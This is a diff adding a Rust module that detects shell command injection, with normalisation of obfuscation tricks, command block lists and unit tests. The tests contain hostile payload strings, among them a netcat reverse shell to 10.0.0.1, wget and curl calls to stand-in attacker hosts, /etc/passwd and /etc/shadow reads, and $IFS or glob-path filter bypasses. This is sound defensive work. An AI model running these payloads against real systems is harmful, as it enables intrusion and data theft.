@@ -1,0 +1,612 @@
+//! Shell command injection, and code that runs a command.
+//!
+//! # Grammar
+//!
+//! The value is first normalised the way a shell would see through common
+//! obfuscation: quotes and backslashes inside words are dropped (`c'a't`, `c\at`),
+//! `$IFS`, `${IFS}` and `$IFS$9` become a space, `$@`, `$*` and `${x}`-style empty
+//! expansions are dropped, and a brace list `{cat,/etc/passwd}` reads as `cat
+//! /etc/passwd`. Then an injection is:
+//!
+//! ```text
+//! injection  := position command argument
+//! position   := value-start | separator | substitution
+//! separator  := ";" | "|" | "||" | "&" | "&&" | newline        (then white space)
+//! substitution := "`" | "$(" | "<(" | ">("
+//! command    := [path] word            path: /bin/, /usr/bin/, ./, C:\...\ ; or a
+//!                                      glob path such as /???/c?t
+//! argument   := end | shape
+//! shape      := ws ( "-"letter | "/" | "./" | "~/" | "\\" | ">" | "<" | "$" | quote
+//!                  | digit (sleep, ping, timeout) | host (ping, nslookup, nc, ...) )
+//! ```
+//!
+//! - Commands come in two lists: *distinct* ones that prose does not use
+//!   (`whoami`, `uname`, `wget`, `powershell`, `certutil`, ...) and *common* ones
+//!   that are also words or too short to tell (`id`, `cat`, `ls`, `sleep`, `ping`,
+//!   `echo`, `type`, `dir`, ...).
+//! - After a separator or inside a substitution, a distinct command is enough; a
+//!   common one needs an argument shape (so `Tom & Jerry` and `A; id is wrong`
+//!   pass, `; id` and `| cat /etc/passwd` do not).
+//! - At the start of the value, any command needs an argument shape (`cat
+//!   /etc/passwd`, `ls -la`), never a plain word (`zsh is the best!`).
+//! - In text that reads like prose, only the first 64 bytes can hold a separator
+//!   position, and backticks are Markdown, not substitution: a forum post that
+//!   quotes a shell command later on is not an injection.
+//! - *Exec calls*: a function that runs commands (`system(`, `exec(`,
+//!   `shell_exec(`, `passthru(`, `popen(`, `proc_open(`, `os.system(`,
+//!   `subprocess.`, `Runtime.getRuntime().exec(`, `child_process`, `IO.popen(`,
+//!   PowerShell's `Invoke-Expression`/`IEX(`) whose argument starts with a command.
+//!
+//! Linear: the normalisation is one pass; every position is tried once and each try
+//! reads a bounded word plus a bounded argument.
+
+use crate::text::{find_ci, is_space, prose_like, starts_with_ci};
+use crate::{Class, Finding};
+
+/// Commands that prose does not use as words.
+const DISTINCT: &[&str] = &[
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "netstat",
+    "nslookup",
+    "wget",
+    "curl",
+    "ncat",
+    "netcat",
+    "telnet",
+    "bash",
+    "ksh",
+    "tcsh",
+    "csh",
+    "dash",
+    "powershell",
+    "pwsh",
+    "cmd.exe",
+    "powershell.exe",
+    "certutil",
+    "bitsadmin",
+    "wmic",
+    "regsvr32",
+    "rundll32",
+    "mshta",
+    "cscript",
+    "wscript",
+    "python2",
+    "python3",
+    "perl",
+    "php",
+    "nmap",
+    "chmod",
+    "chown",
+    "useradd",
+    "crontab",
+    "systemctl",
+    "xxd",
+    "tftp",
+    "socat",
+    "systeminfo",
+    "tasklist",
+    "taskkill",
+    "hostname",
+    "sudo",
+    "base64",
+    "busybox",
+    "getent",
+    "iex",
+    "invoke-expression",
+    "invoke-webrequest",
+    "iwr",
+    "start-process",
+    "new-object",
+    "get-content",
+    "nohup",
+    "setsid",
+    "mkfifo",
+    "msfvenom",
+    "wget.exe",
+    "curl.exe",
+    "net.exe",
+    "net1",
+    "sh.exe",
+    "bash.exe",
+    "uname.exe",
+];
+
+/// Commands that are also ordinary words, or too short to tell apart.
+const COMMON: &[&str] = &[
+    "id",
+    "w",
+    "ls",
+    "cat",
+    "more",
+    "less",
+    "head",
+    "tail",
+    "echo",
+    "type",
+    "dir",
+    "set",
+    "env",
+    "sleep",
+    "ping",
+    "ps",
+    "kill",
+    "find",
+    "sort",
+    "time",
+    "date",
+    "sh",
+    "zsh",
+    "nc",
+    "cmd",
+    "net",
+    "python",
+    "node",
+    "ruby",
+    "lua",
+    "awk",
+    "sed",
+    "rm",
+    "cp",
+    "mv",
+    "touch",
+    "mkdir",
+    "eval",
+    "exec",
+    "printf",
+    "who",
+    "last",
+    "ftp",
+    "ssh",
+    "scp",
+    "dig",
+    "host",
+    "su",
+    "tee",
+    "xargs",
+    "reg",
+    "timeout",
+    "grep",
+    "tac",
+    "nl",
+    "od",
+    "strings",
+    "uniq",
+    "wc",
+    "cut",
+    "whoami",
+    "expr",
+    "pwd",
+    "unset",
+    "export",
+    "source",
+    "tar",
+    "zip",
+    "unzip",
+    "gzip",
+    "start",
+    "call",
+    "copy",
+    "del",
+    "ver",
+    "vol",
+    "systeminfo",
+    "net",
+    "at",
+    "sc",
+];
+
+/// Commands whose usual argument is a number or a host.
+const TAKES_NUMBER_OR_HOST: &[&str] = &[
+    "sleep", "ping", "timeout", "nslookup", "dig", "host", "nc", "ncat", "netcat", "telnet", "ssh",
+    "ftp", "tftp", "curl", "wget", "kill",
+];
+
+/// Functions that run a command given as a string.
+const EXEC_CALLS: &[&str] = &[
+    "system(",
+    "exec(",
+    "shell_exec(",
+    "passthru(",
+    "popen(",
+    "proc_open(",
+    "pcntl_exec(",
+    "os.system(",
+    "os.popen(",
+    "subprocess.call(",
+    "subprocess.run(",
+    "subprocess.popen(",
+    "subprocess.check_output(",
+    "getruntime().exec(",
+    "processbuilder(",
+    "child_process",
+    "io.popen(",
+    "%x(",
+    "invoke-expression",
+    "iex(",
+    "spawn(",
+    "execsync(",
+];
+
+/// Longest command word read (paths included).
+const MAX_WORD: usize = 64;
+
+/// Scans `input` for a command injection.
+pub fn scan(input: &[u8]) -> Option<Finding> {
+    // Every pattern needs at least one of these, or a command at the start.
+    let norm = normalise(input);
+    let s = &norm[..];
+    let prose = prose_like(s);
+    if let Some(f) = exec_call(s) {
+        return Some(f);
+    }
+    // The value's start (after white space, quotes and grouping).
+    let mut start = 0;
+    while start < s.len() && (is_space(s[start]) || matches!(s[start], b'(' | b'{' | b'\'' | b'"'))
+    {
+        start += 1;
+    }
+    if let Some(f) = command_at(s, start, Position::Start) {
+        return Some(f);
+    }
+    let mut i = 0;
+    while i < s.len() {
+        let b = s[i];
+        let (pos, next) = match b {
+            b';' | b'|' | b'&' | b'\n' | b'\r' => {
+                let mut j = i + 1;
+                while j < s.len() && matches!(s[j], b'|' | b'&') {
+                    j += 1;
+                }
+                (Position::Separator, j)
+            }
+            b'`' if !prose => (Position::Substitution, i + 1),
+            b'$' | b'<' | b'>' if s.get(i + 1) == Some(&b'(') => (Position::Substitution, i + 2),
+            _ => {
+                i += 1;
+                continue;
+            }
+        };
+        if pos == Position::Separator && prose && i > 64 {
+            i = next;
+            continue;
+        }
+        let mut at = next;
+        while at < s.len() && (is_space(s[at]) || matches!(s[at], b'(' | b'{')) {
+            at += 1;
+        }
+        if let Some(f) = command_at(s, at, pos) {
+            return Some(f);
+        }
+        i = next;
+    }
+    None
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Position {
+    Start,
+    Separator,
+    Substitution,
+}
+
+/// A command word at `at` in a command position, with the argument it needs.
+fn command_at(s: &[u8], at: usize, pos: Position) -> Option<Finding> {
+    if at >= s.len() {
+        return None;
+    }
+    let (word, end, glob) = command_word(s, at)?;
+    // The word must end where a shell word ends (`base64,` in a data URL does not).
+    if s.get(end).is_some_and(|c| {
+        !(is_space(*c)
+            || matches!(
+                c,
+                b';' | b'|' | b'&' | b'`' | b')' | b'<' | b'>' | b'$' | b'\'' | b'"' | b'#' | b'}'
+            ))
+    }) {
+        return None;
+    }
+    let distinct = crate::text::one_of(word, DISTINCT);
+    let common = crate::text::one_of(word, COMMON);
+    if !(distinct || common || glob) {
+        return None;
+    }
+    let shaped = argument_shape(s, end, word);
+    let hit = match pos {
+        Position::Start => shaped,
+        Position::Separator => distinct || glob || shaped,
+        Position::Substitution => true,
+    };
+    if !hit {
+        return None;
+    }
+    let rule = match pos {
+        Position::Start => "command with shell arguments at the start",
+        Position::Separator => "separator then command",
+        Position::Substitution => "command substitution",
+    };
+    Some(Finding::new(Class::Cmd, rule, at..end))
+}
+
+/// The command word at `at`: its base name (path stripped), where it ends, and
+/// whether it was a glob path (`/???/c?t`).
+fn command_word(s: &[u8], at: usize) -> Option<(&[u8], usize, bool)> {
+    let mut end = at;
+    while end < s.len()
+        && end - at < MAX_WORD
+        && (s[end].is_ascii_alphanumeric()
+            || matches!(
+                s[end],
+                b'/' | b'\\' | b'.' | b'-' | b'_' | b':' | b'?' | b'*' | b'%'
+            ))
+    {
+        end += 1;
+    }
+    if end == at {
+        return None;
+    }
+    let token = &s[at..end];
+    let base_from = token
+        .iter()
+        .rposition(|&c| c == b'/' || c == b'\\')
+        .map_or(0, |p| p + 1);
+    let base = &token[base_from..];
+    let pathy = base_from > 0;
+    let glob = pathy
+        && token[0] == b'/'
+        && token.iter().any(|&c| c == b'?' || c == b'*')
+        && token.iter().filter(|&&c| c == b'/').count() >= 2;
+    if base.is_empty() && !glob {
+        return None;
+    }
+    // A path prefix must look like a binary directory, not just any path.
+    if pathy && !glob {
+        let dir = &token[..base_from];
+        let bin_dir = find_ci(dir, 0, b"bin").is_some()
+            || find_ci(dir, 0, b"system32").is_some()
+            || dir == b"./"
+            || dir.starts_with(b"%");
+        if !bin_dir {
+            return None;
+        }
+    }
+    Some((base, end, glob))
+}
+
+/// Whether what follows a command word at `end` has the shape of shell arguments.
+fn argument_shape(s: &[u8], end: usize, word: &[u8]) -> bool {
+    let rest = &s[end..];
+    // The end of the value, or another separator or closing.
+    let first_non_space = rest.iter().position(|&c| !is_space(c));
+    let Some(k) = first_non_space else {
+        return true;
+    };
+    let c = rest[k];
+    if matches!(c, b';' | b'|' | b'&' | b'`' | b')' | b'#' | b'>' | b'<') {
+        return true;
+    }
+    if k == 0 {
+        // Glued to the word: `cat$IFS` was normalised; `id;` handled above.
+        return false;
+    }
+    let after = &rest[k..];
+    match c {
+        b'-' => after
+            .get(1)
+            .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'-'),
+        b'/' => after
+            .get(1)
+            .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'?'),
+        b'.' | b'~' => after.get(1) == Some(&b'/'),
+        b'\\' => true,
+        b'$' => true,
+        b'\'' | b'"' => true,
+        b'0'..=b'9' => crate::text::one_of(word, TAKES_NUMBER_OR_HOST),
+        _ if crate::text::one_of(word, TAKES_NUMBER_OR_HOST) => {
+            // A host name: letters and digits with a dot, no spaces before it.
+            let host_end = after
+                .iter()
+                .position(|&c| !(c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-')))
+                .unwrap_or(after.len());
+            let host = &after[..host_end];
+            host.contains(&b'.') && host.len() > 3 && host.last() != Some(&b'.')
+        }
+        // `cmd /c`, `type C:\...`, `dir C:`.
+        b'A'..=b'Z' | b'a'..=b'z' => {
+            after.get(1) == Some(&b':') && after.get(2).is_some_and(|c| *c == b'\\' || *c == b'/')
+        }
+        _ => false,
+    }
+}
+
+/// A function that runs a command, called with a command.
+fn exec_call(s: &[u8]) -> Option<Finding> {
+    for call in EXEC_CALLS {
+        let mut from = 0;
+        while let Some(at) = find_ci(s, from, call.as_bytes()) {
+            from = at + 1;
+            // A method of something else (`myexec(`) is not the call.
+            if at > 0
+                && (s[at - 1].is_ascii_alphanumeric() || s[at - 1] == b'_')
+                && !call.contains('.')
+            {
+                continue;
+            }
+            let mut k = at + call.len();
+            while k < s.len() && (is_space(s[k]) || matches!(s[k], b'\'' | b'"' | b'[' | b'(')) {
+                k += 1;
+            }
+            let arg_is_command = command_word(s, k).is_some_and(|(w, _, glob)| {
+                glob || crate::text::one_of(w, DISTINCT) || crate::text::one_of(w, COMMON)
+            });
+            // `$_GET[...]`, `request.args`: the command comes from the request.
+            let from_request = starts_with_ci(s, k, b"$_") || starts_with_ci(s, k, b"request");
+            if arg_is_command || from_request || call.ends_with("child_process") {
+                return Some(Finding::new(Class::Cmd, "exec call with a command", at..k));
+            }
+        }
+    }
+    None
+}
+
+/// The value with shell quoting and obfuscation removed (see the module
+/// documentation); at most as long as the input, plus spaces for brace lists.
+fn normalise(input: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(input.len());
+    let mut i = 0;
+    while i < input.len() {
+        let b = input[i];
+        match b {
+            // Quotes glued between word bytes, and backslashes before a letter.
+            b'\'' | b'"'
+                if i > 0
+                    && input[i - 1].is_ascii_alphanumeric()
+                    && input.get(i + 1).is_some_and(|c| {
+                        c.is_ascii_alphanumeric() || *c == b'\'' || *c == b'"'
+                    }) =>
+            {
+                i += 1;
+            }
+            b'\\'
+                if input.get(i + 1).is_some_and(|c| c.is_ascii_lowercase())
+                    && i > 0
+                    && input[i - 1].is_ascii_alphanumeric() =>
+            {
+                i += 1;
+            }
+            b'$' => {
+                if starts_with_ci(input, i, b"${ifs}") {
+                    out.push(b' ');
+                    i += 6;
+                } else if starts_with_ci(input, i, b"$ifs") {
+                    out.push(b' ');
+                    i += 4;
+                    if input.get(i) == Some(&b'$')
+                        && input.get(i + 1).is_some_and(u8::is_ascii_digit)
+                    {
+                        i += 2;
+                    }
+                } else if matches!(input.get(i + 1), Some(b'@' | b'*')) {
+                    i += 2;
+                } else if input.get(i + 1) == Some(&b'{')
+                    && let Some(close) = input[i + 2..].iter().take(16).position(|&c| c == b'}')
+                    && input[i + 2..i + 2 + close]
+                        .iter()
+                        .all(|c| c.is_ascii_alphanumeric() || *c == b'_')
+                    && close > 0
+                    && !input[i + 2..i + 2 + close].eq_ignore_ascii_case(b"ifs")
+                {
+                    // `${x}` in the middle of a word expands to nothing when unset.
+                    if i > 0 && input[i - 1].is_ascii_alphanumeric() {
+                        i += 3 + close;
+                    } else {
+                        out.push(b);
+                        i += 1;
+                    }
+                } else {
+                    out.push(b);
+                    i += 1;
+                }
+            }
+            b'{' if input.get(i + 1).is_some_and(u8::is_ascii_alphabetic) => {
+                // A brace list `{cat,/etc/passwd}`: a command position.
+                let close = input[i + 1..].iter().take(256).position(|&c| c == b'}');
+                let list = close.map(|c| &input[i + 1..i + 1 + c]);
+                if let Some(list) = list.filter(|l| l.contains(&b',') && !l.contains(&b' ')) {
+                    out.push(b';');
+                    out.extend(list.iter().map(|&c| if c == b',' { b' ' } else { c }));
+                    i += 2 + list.len();
+                } else {
+                    out.push(b);
+                    i += 1;
+                }
+            }
+            _ => {
+                out.push(b);
+                i += 1;
+            }
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn hit(s: &str) -> bool {
+        scan(s.as_bytes()).is_some()
+    }
+
+    #[test]
+    fn injections() {
+        for s in [
+            ";cat /etc/passwd",
+            "127.0.0.1; id",
+            "127.0.0.1 && whoami",
+            "x|id",
+            "a || ls -la",
+            "`id`",
+            "$(whoami)",
+            "foo$(cat /etc/shadow)",
+            "; sleep 5",
+            "|ping -c 3 attacker.example",
+            "cat /etc/passwd",
+            "ls -la /",
+            "& dir C:\\",
+            "| type C:\\windows\\win.ini",
+            "cmd /c whoami",
+            ";/bin/cat /etc/passwd",
+            ";/???/c?t /???/p??s??",
+            ";c'a't /etc/passwd",
+            ";c\\at /etc/passwd",
+            ";cat${IFS}/etc/passwd",
+            ";cat$IFS$9/etc/passwd",
+            ";{cat,/etc/passwd}",
+            "\nwhoami",
+            "x;nc -e /bin/sh 10.0.0.1 4444",
+            "|wget http://x.example/a.sh",
+            "system('cat /etc/passwd')",
+            "<?php system($_GET['c']); ?>",
+            "__import__('os').system('id')",
+            "Runtime.getRuntime().exec(\"whoami\")",
+            "require('child_process').exec('id')",
+            "; powershell -enc SQBFAFgA",
+            "|| curl attacker.example",
+            "a;uname -a",
+            "$(printf 'id')",
+        ] {
+            assert!(hit(s), "missed: {s}");
+        }
+    }
+
+    #[test]
+    fn benign() {
+        for s in [
+            "Tom & Jerry",
+            "zsh is the best!",
+            "Sleep(8 hours)",
+            "A; id is wrong",
+            "cat videos are great",
+            "fish & chips; salt & pepper",
+            "I use ls every day",
+            "rock & roll | jazz",
+            "please type your name",
+            "Set the date; then echo it back to me",
+            "john+or@var.es",
+            "the ping was 30ms",
+            "One more thing: run `ls -la` in your terminal to see hidden files, and the output tells you a lot.",
+            "A long forum post that explains how pipes work in the shell, and then at the end mentions that | cat /etc/passwd reads the file.",
+            "data:image/png;base64,iVBORw0KGgo=",
+            "https://example.com/search?q=a&b=c",
+            "O'Brien",
+            "the system(s) we use",
+            "{\"name\":\"alice\",\"tags\":[\"a\",\"b\"]}",
+            "price: $5 (or $(10) in total)",
+        ] {
+            assert!(!hit(s), "false positive: {s}: {:?}", scan(s.as_bytes()));
+        }
+    }
+}
